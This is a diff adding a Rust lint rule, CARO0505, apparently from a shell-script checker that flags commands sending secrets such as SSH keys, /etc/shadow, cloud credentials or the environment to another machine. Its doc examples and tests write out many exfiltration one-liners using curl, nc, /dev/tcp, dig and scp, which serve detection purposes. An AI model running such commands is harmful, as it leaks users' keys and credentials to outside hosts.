@@ -1,0 +1,188 @@
+//! CARO0505: a secret leaves the machine.
+
+use crate::secret_paths::{Kind, Secret, secret};
+use super::reading;
+use super::sending::{self, Form, Sent};
+use crate::rules::{Check, Level, Sink};
+use crate::script::{Command, RedirectOperator, Statement, StatementKind};
+
+rule! {
+    /// Sends a secret to another machine: a private key, passwords, the history of commands, the environment.
+    ///
+    /// Whoever gets it is you from then on, and nothing takes it back but new keys and passwords.
+    /// Send the public half (`id_ed25519.pub`), or make a key that is only for the one purpose.
+    ///
+    /// ```sh bad
+    /// curl -F 'file=@/home/ann/.ssh/id_rsa' https://example.org/up
+    /// ```
+    /// ```sh bad
+    /// tar cz ~/.ssh | nc 203.0.113.5 4444
+    /// ```
+    /// ```sh bad
+    /// curl "https://example.org/?k=$(base64 -w0 ~/.aws/credentials)"
+    /// ```
+    /// ```sh bad
+    /// env | curl -d @- https://example.org
+    /// ```
+    /// ```sh bad
+    /// dig "$(cat /etc/shadow | base64 | head -c 60).example.org"
+    /// ```
+    /// ```sh good
+    /// curl -H "Authorization: Bearer $(cat /run/secrets/token)" https://api.example.org
+    /// ```
+    /// ```sh good
+    /// rsync -a --delete ~/ backup.example.org:home/
+    /// ```
+    /// ```sh good
+    /// scp ~/.ssh/id_ed25519.pub host:
+    /// scp -i ~/.ssh/id_ed25519 report.pdf host:
+    /// ```
+    /// ```sh good
+    /// scp host:.ssh/id_rsa ~/.ssh/
+    /// ```
+    /// ```sh good
+    /// curl -F 'file=@build.log' https://example.org/up
+    /// dmesg | nc termbin.com 9999
+    /// ```
+    "CARO0505" "secret-sent",
+    Danger,
+    Check::Several(&[Check::AnyCommand { run: check }, Check::Pipeline { run: check_pipeline }])
+}
+
+fn check(command: &Command, sink: &mut Sink<'_>) {
+    if command.is_dry_run() {
+        return;
+    }
+    for it in sending::sent(command, sink) {
+        if let Some(secret) = secret_in(&it, sink) {
+            report(it.word.span, secret, it.carried, sink);
+            return;
+        }
+    }
+    if let Some(carried) = sending::sends_input(command, sink) {
+        let read = command.redirects.iter().filter(|it| matches!(it.operator, RedirectOperator::Read | RedirectOperator::HereString));
+        for redirect in read {
+            let secret = match redirect.operator {
+                RedirectOperator::Read => reading::file(&redirect.target, sink).map(|it| it.0),
+                _ => reading::in_word(&redirect.target, sink),
+            };
+            if let Some(secret) = secret.or_else(|| reading::in_word(&redirect.target, sink)) {
+                report(redirect.span, secret, carried, sink);
+            }
+        }
+    }
+    // `cat key > /dev/tcp/host/port`
+    let to_network = command.redirects.iter().find(|it| it.operator.writes() && is_socket(&it.target.sketch()));
+    if let Some(redirect) = to_network
+        && let Some(secret) = reading::by_command(command, sink)
+    {
+        report(redirect.span, secret, false, sink);
+    }
+}
+
+fn is_socket(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// The secret in what a word sends.
+fn secret_in(sent: &Sent<'_>, sink: &Sink<'_>) -> Option<Secret> {
+    let by_text = reading::in_word(sent.word, sink);
+    let by_name = match sent.form {
+        Form::File => reading::file(sent.word, sink).map(|it| it.0),
+        Form::Data => sink.value(sent.word).texts().find_map(|it| data_files(it).into_iter().find_map(secret)),
+        Form::Text => sink.value(sent.word).texts().find_map(|it| {
+            let mut words = it.split([' ', ';']);
+            words.any(|it| matches!(it, "put" | "mput" | "mirror" | "send")).then(|| words.find_map(secret)).flatten()
+        }),
+    };
+    by_name.or(by_text)
+}
+
+/// The files in `@file`, `name=@file;type=x`, `name=<file`, `name@file`.
+fn data_files(text: &str) -> Vec<&str> {
+    let Some(at) = text.find(['@', '<']) else { return Vec::new() };
+    // In `user=a@b.org` the sign belongs to the text.
+    let before = &text[..at];
+    if before.contains('=') && !before.ends_with(['=', ':']) {
+        return Vec::new();
+    }
+    text[at + 1..].split([';', ',']).take(4).map(|it| it.trim_matches('"')).collect()
+}
+
+fn check_pipeline(stages: &[Statement], sink: &mut Sink<'_>) {
+    for (at, stage) in stages.iter().enumerate().skip(1) {
+        let target = match &stage.kind {
+            StatementKind::Command(command) => {
+                let socket = command.redirects.iter().any(|it| it.operator.writes() && is_socket(&it.target.sketch()));
+                sending::sends_input(command, sink).or(socket.then_some(false)).map(|it| (command, it))
+            }
+            _ => None,
+        };
+        let Some((command, carried)) = target else { continue };
+        if let Some(secret) = reading::in_statements(&stages[..at], sink) {
+            report(command.span, secret, carried, sink);
+            return;
+        }
+    }
+}
+
+fn report(span: crate::Span, secret: Secret, carried: bool, sink: &mut Sink<'_>) {
+    // What a service needs is carried to its server on purpose.
+    let level = if carried && secret.kind == Kind::Service { Level::Caution } else { Level::Danger };
+    sink.report(span, format!("sends {} to another machine", secret.what)).level(level);
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::Level;
+    use crate::rules::tests::{check_marks, levels};
+
+    #[test]
+    fn every_way_out_counts() {
+        for script in [
+            "curl -T ~/.ssh/id_rsa ftp://x.io\n#       ^^^^^^^^^^^^^ CARO0505\n",
+            "curl -sS --data-binary @$HOME/.aws/credentials https://x.io\n#                      ^^^^^^^^^^^^^^^^^^^^^^^ CARO0505\n",
+            "curl -d \"$(cat ~/.bash_history)\" x.io\n#       ^^^^^^^^^^^^^^^^^^^^^^^^ CARO0505\n",
+            "wget --post-file=/etc/shadow http://x.io\n#                ^^^^^^^^^^^ CARO0505\n",
+            "nc x.io 80 < ~/.ssh/id_ed25519\n#          ^^^^^^^^^^^^^^^^^^^ CARO0505\n",
+            "scp ~/.ssh/id_rsa bob@x.io:\n#   ^^^^^^^^^^^^^ CARO0505\n",
+            "cat /etc/shadow | ssh bob@x.io 'cat > s'\n#mark 0 18 40 CARO0505\n",
+            "printenv > /dev/tcp/1.2.3.4/80\n#        ^^^^^^^^^^^^^^^^^^^^^ CARO0505\n",
+            "cat ~/.ssh/id_rsa | base64 | mail -s x a@x.io\n#mark 0 29 45 CARO0505\n",
+            "aws s3 cp ~/.gnupg s3://b/ --recursive\n#         ^^^^^^^^ CARO0505\n",
+            "K=~/.ssh/id_rsa; curl -F \"f=@$K\" https://x.io\n#                        ^^^^^^^ CARO0505\n",
+            "gpg --export-secret-keys | curl -T - https://x.io\n#mark 0 27 49 CARO0505\n",
+            "tar czf - -C ~ .ssh .aws | curl -F 'f=@-' https://x.io\n#mark 0 27 54 CARO0505\n",
+            "rsync -a ~/.ssh/ x.io:keys/\n#        ^^^^^^^ CARO0505\n",
+            "zip -r - ~/.mozilla | nc -w 3 x.io 80\n#mark 0 22 37 CARO0505\n",
+        ] {
+            check_marks(script);
+        }
+    }
+
+    #[test]
+    fn what_is_not_sent_or_no_secret_is_silent() {
+        for script in [
+            "ssh -i ~/.ssh/id_rsa host uptime\n",
+            "cat ~/.ssh/id_rsa.pub | ssh host 'cat >> .ssh/authorized_keys'\n",
+            "scp host:/etc/app/.env .env.local\n",
+            "rsync -a ~/.ssh/ /mnt/backup/ssh/\n",
+            "curl --key server.key --cert cert.pem https://x.io\n",
+            "curl --netrc-file ~/.netrc https://x.io\n",
+            "curl -d \"user=$USER&password=$PASSWORD\" https://x.io/login\n",
+            "curl -d 'mail=a@b.org' https://x.io\n",
+            "env | grep PATH\nenv A=1 curl x.io\n",
+            "sha256sum ~/.ssh/id_rsa | nc x.io 80\n",
+            "curl -d @payload.json https://x.io\n",
+            "tar cz --exclude ~/.ssh ~ | ssh backup 'cat > home.tgz'\n",
+        ] {
+            check_marks(script);
+        }
+    }
+
+    #[test]
+    fn a_service_gets_its_own_secrets() {
+        assert_eq!(levels("scp .env deploy@app:/srv/app/.env\n"), [Level::Caution]);
+        assert_eq!(levels("curl -F f=@.env https://x.io\n"), [Level::Danger]);
+    }
+}
